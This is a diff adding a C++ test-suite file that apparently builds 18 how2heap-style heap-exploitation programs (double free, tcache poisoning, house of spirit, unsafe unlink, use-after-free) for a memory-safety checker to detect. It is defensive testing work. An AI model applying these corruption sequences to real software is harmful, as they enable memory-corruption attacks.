@@ -1,0 +1,390 @@
+#include "how2heap.hh"
+
+#include "isa/assembler.hh"
+
+namespace chex
+{
+
+namespace
+{
+
+/** Small builder shared by all How2Heap cases. */
+struct HeapCase
+{
+    Assembler as;
+    uint64_t indAddr;
+    uint64_t poolInd;
+
+    HeapCase()
+    {
+        indAddr = as.addGlobal("h2h_indicator", 8);
+        poolInd = as.poolSlotFor("h2h_indicator");
+    }
+
+    void
+    mallocTo(RegId dst, int64_t size)
+    {
+        as.movri(RDI, size);
+        as.call(IntrinsicKind::Malloc);
+        if (dst != RAX)
+            as.movrr(dst, RAX);
+    }
+
+    void
+    freeReg(RegId src)
+    {
+        if (src != RDI)
+            as.movrr(RDI, src);
+        as.call(IntrinsicKind::Free);
+    }
+
+    /** indicator = (x == y) ? 1 : 0 */
+    void
+    indicateIfEqual(RegId x, RegId y)
+    {
+        auto skip = as.newLabel();
+        as.movri(RAX, 0);
+        as.cmprr(x, y);
+        as.jcc(CondCode::NE, skip);
+        as.movri(RAX, 1);
+        as.bind(skip);
+        as.movrm(R11, memRip(poolInd));
+        as.movmr(memAt(R11, 0), RAX);
+    }
+
+    void
+    indicate(int64_t value)
+    {
+        as.movrm(R11, memRip(poolInd));
+        as.movmi(memAt(R11, 0), value, 8);
+    }
+
+    AttackCase
+    finish(const char *name, Violation expected)
+    {
+        as.hlt();
+        AttackCase out;
+        out.suite = "How2Heap";
+        out.name = name;
+        out.expected = expected;
+        out.indicatorAddr = indAddr;
+        out.program = as.finalize();
+        return out;
+    }
+};
+
+constexpr int64_t InUseHeader(int64_t chunk_size)
+{
+    return chunk_size | 3; // size | IN_USE | PREV_INUSE
+}
+
+} // anonymous namespace
+
+std::vector<AttackCase>
+how2heapSuite()
+{
+    std::vector<AttackCase> cases;
+
+    // 1. fastbin_dup: double free makes the bin cyclic; two
+    // subsequent mallocs return the same chunk.
+    {
+        HeapCase b;
+        b.mallocTo(R12, 32);
+        b.freeReg(R12);
+        b.freeReg(R12); // CHEx86 anchors here
+        b.mallocTo(R13, 32);
+        b.mallocTo(R14, 32);
+        b.indicateIfEqual(R13, R14);
+        cases.push_back(b.finish("fastbin_dup", Violation::DoubleFree));
+    }
+
+    // 2. fastbin_dup_into_stack: poison the freed chunk's fd via a
+    // use-after-free write; malloc then returns an attacker-chosen
+    // region (a global here).
+    {
+        HeapCase b;
+        uint64_t tgt = b.as.addGlobal("h2h_target", 64);
+        (void)tgt;
+        uint64_t pool_tgt = b.as.poolSlotFor("h2h_target");
+        b.mallocTo(R12, 32);
+        b.freeReg(R12);
+        b.as.movrm(R15, memRip(pool_tgt));
+        b.as.movmr(memAt(R12, 0), R15); // UAF write of fd
+        b.mallocTo(R13, 32);            // = R12 again
+        b.mallocTo(R14, 32);            // = target + 16
+        b.as.addri(R15, 16);
+        b.indicateIfEqual(R14, R15);
+        cases.push_back(b.finish("fastbin_dup_into_stack",
+                                 Violation::UseAfterFree));
+    }
+
+    // 3. fastbin_dup_consolidate: double free with an intervening
+    // different-size allocation to evade naive head checks.
+    {
+        HeapCase b;
+        b.mallocTo(R12, 32);
+        b.freeReg(R12);
+        b.mallocTo(R13, 200); // decoy
+        b.freeReg(R12);       // CHEx86 anchors here
+        b.mallocTo(R13, 32);
+        b.mallocTo(R14, 32);
+        b.indicateIfEqual(R13, R14);
+        cases.push_back(b.finish("fastbin_dup_consolidate",
+                                 Violation::DoubleFree));
+    }
+
+    // 4. house_of_spirit: free a fake chunk crafted in the global
+    // data section; malloc then returns it.
+    {
+        HeapCase b;
+        uint64_t fake = b.as.addGlobal("h2h_fake", 64);
+        (void)fake;
+        uint64_t pool_fake = b.as.poolSlotFor("h2h_fake");
+        b.as.movrm(R15, memRip(pool_fake));
+        b.as.movmi(memAt(R15, 8), InUseHeader(48), 8); // fake size
+        b.as.movrr(RDI, R15);
+        b.as.addri(RDI, 16); // fake user pointer
+        b.as.call(IntrinsicKind::Free); // CHEx86: invalid free
+        b.mallocTo(R13, 32);
+        b.as.addri(R15, 16);
+        b.indicateIfEqual(R13, R15);
+        cases.push_back(b.finish("house_of_spirit",
+                                 Violation::InvalidFree));
+    }
+
+    // 5. house_of_spirit_stack: the same with a stack-crafted fake
+    // chunk (PID 0).
+    {
+        HeapCase b;
+        b.as.subri(RSP, 128);
+        b.as.lea(RBX, memAt(RSP, 16));
+        b.as.movmi(memAt(RBX, 8), InUseHeader(48), 8);
+        b.as.lea(RDI, memAt(RBX, 16));
+        b.as.movrr(R15, RDI);
+        b.as.call(IntrinsicKind::Free);
+        b.mallocTo(R13, 32);
+        b.indicateIfEqual(R13, R15);
+        cases.push_back(b.finish("house_of_spirit_stack",
+                                 Violation::InvalidFree));
+    }
+
+    // 6. poison_null_byte: a single-byte overflow rewrites the
+    // adjacent chunk's size; freeing it files it in the wrong bin
+    // and a smaller malloc returns the same memory.
+    {
+        HeapCase b;
+        b.mallocTo(R12, 56); // chunk size 80
+        b.mallocTo(R13, 56);
+        b.mallocTo(R14, 56); // keeps the wilderness away
+        b.as.movri(RCX, 0x23); // size 32 | flags
+        b.as.movmr(memAt(R12, 72), RCX, 1); // one byte OOB
+        b.freeReg(R13);
+        b.mallocTo(R15, 16); // chunkSizeFor(16)=32 -> poisoned bin
+        b.indicateIfEqual(R15, R13);
+        cases.push_back(b.finish("poison_null_byte",
+                                 Violation::OutOfBounds));
+    }
+
+    // 7. overlapping_chunks: grow the neighbour's size via OOB, free
+    // it, and reallocate it bigger so it overlaps the third chunk.
+    {
+        HeapCase b;
+        b.mallocTo(R12, 56);
+        b.mallocTo(R13, 56);
+        b.mallocTo(R14, 56);
+        b.as.movri(RCX, InUseHeader(160));
+        b.as.movmr(memAt(R12, 72), RCX); // OOB: b's header
+        b.freeReg(R13);
+        b.mallocTo(R15, 136); // chunkSizeFor(136)=160 -> returns b
+        b.as.addri(R15, 80);  // b + 80 == c if overlapping
+        b.indicateIfEqual(R15, R14);
+        cases.push_back(b.finish("overlapping_chunks",
+                                 Violation::OutOfBounds));
+    }
+
+    // 8. chunk_extend: corrupt the chunk's *own* header through an
+    // underflowing write, then free and reallocate it overlapping
+    // its neighbour.
+    {
+        HeapCase b;
+        b.mallocTo(R12, 56);
+        b.mallocTo(R13, 56);
+        b.as.movri(RCX, InUseHeader(160));
+        b.as.movmr(memAt(R12, -8), RCX); // own header, OOB under
+        b.freeReg(R12);
+        b.mallocTo(R15, 136); // = a, now 160 bytes spanning b
+        b.as.addri(R15, 80);
+        b.indicateIfEqual(R15, R13);
+        cases.push_back(b.finish("chunk_extend",
+                                 Violation::OutOfBounds));
+    }
+
+    // 9. unsafe_unlink: overflow into the freed neighbour's fd link;
+    // the second malloc returns an attacker-chosen region.
+    {
+        HeapCase b;
+        uint64_t tgt = b.as.addGlobal("h2h_target", 64);
+        (void)tgt;
+        uint64_t pool_tgt = b.as.poolSlotFor("h2h_target");
+        b.mallocTo(R12, 56);
+        b.mallocTo(R13, 56);
+        b.freeReg(R13);
+        b.as.movrm(R15, memRip(pool_tgt));
+        b.as.movmr(memAt(R12, 80), R15); // OOB write of b's fd
+        b.mallocTo(R13, 56);             // pops b, bins -> target
+        b.mallocTo(R14, 56);             // = target + 16
+        b.as.addri(R15, 16);
+        b.indicateIfEqual(R14, R15);
+        cases.push_back(b.finish("unsafe_unlink",
+                                 Violation::OutOfBounds));
+    }
+
+    // 10. wilderness_smash: stomp far past the last chunk into the
+    // wilderness the next allocation will come from.
+    {
+        HeapCase b;
+        b.mallocTo(R12, 56);
+        auto loop = b.as.newLabel();
+        auto done = b.as.newLabel();
+        b.as.movri(RCX, 0xCC);
+        b.as.movri(R10, 0);
+        b.as.bind(loop);
+        b.as.cmpri(R10, 512);
+        b.as.jcc(CondCode::AE, done);
+        b.as.movmr(memAt(R12, 56, R10, 1), RCX, 1); // OOB from 56
+        b.as.addri(R10, 1);
+        b.as.jmp(loop);
+        b.as.bind(done);
+        b.mallocTo(R13, 56);
+        b.as.movrm(RDX, memAt(R13, 8), 1); // pre-stomped wilderness
+        b.as.movri(RCX, 0xCC);
+        b.indicateIfEqual(RDX, RCX);
+        cases.push_back(b.finish("wilderness_smash",
+                                 Violation::OutOfBounds));
+    }
+
+    // 11. uaf_write_corrupt: stale pointer writes into the block's
+    // new owner after reuse.
+    {
+        HeapCase b;
+        b.mallocTo(R12, 56);
+        b.freeReg(R12);
+        b.mallocTo(R13, 56); // same chunk reused
+        b.as.movmi(memAt(R12, 8), 0x99, 8); // UAF write
+        b.as.movrm(RDX, memAt(R13, 8));
+        b.as.movri(RCX, 0x99);
+        b.indicateIfEqual(RDX, RCX);
+        cases.push_back(b.finish("uaf_write_corrupt",
+                                 Violation::UseAfterFree));
+    }
+
+    // 12. uaf_read_leak: read the freed chunk's fd to leak another
+    // chunk's address.
+    {
+        HeapCase b;
+        b.mallocTo(R12, 32);
+        b.mallocTo(R13, 32);
+        b.freeReg(R12);
+        b.freeReg(R13);
+        b.as.movrm(RDX, memAt(R13, 0)); // UAF read: fd == a's chunk
+        b.as.movrr(RCX, R12);
+        b.as.subri(RCX, 16);
+        b.indicateIfEqual(RDX, RCX);
+        cases.push_back(b.finish("uaf_read_leak",
+                                 Violation::UseAfterFree));
+    }
+
+    // 13. tcache_dup: small-size double free.
+    {
+        HeapCase b;
+        b.mallocTo(R12, 16);
+        b.freeReg(R12);
+        b.freeReg(R12);
+        b.mallocTo(R13, 16);
+        b.mallocTo(R14, 16);
+        b.indicateIfEqual(R13, R14);
+        cases.push_back(b.finish("tcache_dup", Violation::DoubleFree));
+    }
+
+    // 14. tcache_poisoning: small-size fd poison via UAF.
+    {
+        HeapCase b;
+        uint64_t tgt = b.as.addGlobal("h2h_target", 64);
+        (void)tgt;
+        uint64_t pool_tgt = b.as.poolSlotFor("h2h_target");
+        b.mallocTo(R12, 16);
+        b.freeReg(R12);
+        b.as.movrm(R15, memRip(pool_tgt));
+        b.as.movmr(memAt(R12, 0), R15); // UAF fd poison
+        b.mallocTo(R13, 16);
+        b.mallocTo(R14, 16); // target + 16
+        b.as.addri(R15, 16);
+        b.indicateIfEqual(R14, R15);
+        cases.push_back(b.finish("tcache_poisoning",
+                                 Violation::UseAfterFree));
+    }
+
+    // 15. wild_free: free an arbitrary integer address; the fake
+    // chunk enters the free list and malloc hands it out.
+    {
+        HeapCase b;
+        b.as.movri(RDI, 0x13370000);
+        b.as.call(IntrinsicKind::Free);
+        b.mallocTo(R13, 8); // chunkSizeFor(8)=32 == MinChunk bin
+        b.as.movri(RCX, 0x13370000);
+        b.indicateIfEqual(R13, RCX);
+        cases.push_back(b.finish("wild_free", Violation::InvalidFree));
+    }
+
+    // 16. interior_free: free an interior pointer; the user data is
+    // misread as a chunk header (pre-seeded to look valid).
+    {
+        HeapCase b;
+        b.mallocTo(R12, 64);
+        b.as.movmi(memAt(R12, 8), InUseHeader(48), 8); // fake header
+        b.as.movrr(RDI, R12);
+        b.as.addri(RDI, 16);
+        b.as.call(IntrinsicKind::Free);
+        b.mallocTo(R13, 32); // returns the interior fake chunk
+        b.as.movrr(RCX, R12);
+        b.as.addri(RCX, 16);
+        b.indicateIfEqual(R13, RCX);
+        cases.push_back(b.finish("interior_free",
+                                 Violation::InvalidFree));
+    }
+
+    // 17. heap_spray_oversize: prohibitively large allocations.
+    {
+        HeapCase b;
+        b.as.movri(RDI, (1ll << 30) + (1ll << 28)); // 1.25 GiB
+        b.as.call(IntrinsicKind::Malloc);
+        b.as.movri(RCX, 0);
+        auto skip = b.as.newLabel();
+        b.as.movri(RBX, 0);
+        b.as.cmprr(RAX, RBX);
+        b.as.jcc(CondCode::EQ, skip);
+        b.as.movri(RCX, 1);
+        b.as.bind(skip);
+        b.as.movrm(R11, memRip(b.poolInd));
+        b.as.movmr(memAt(R11, 0), RCX);
+        cases.push_back(b.finish("heap_spray_oversize",
+                                 Violation::OversizeAlloc));
+    }
+
+    // 18. zero_alloc_overflow: malloc(0) then write through it,
+    // stomping the next chunk's header.
+    {
+        HeapCase b;
+        b.mallocTo(R12, 0);
+        b.mallocTo(R13, 32);
+        b.as.movmi(memAt(R12, 0), 0x47, 8);  // OOB: bounds are 0
+        b.as.movmi(memAt(R12, 16), 0x48, 8); // next header region
+        b.indicate(1);
+        cases.push_back(b.finish("zero_alloc_overflow",
+                                 Violation::OutOfBounds));
+    }
+
+    return cases;
+}
+
+} // namespace chex
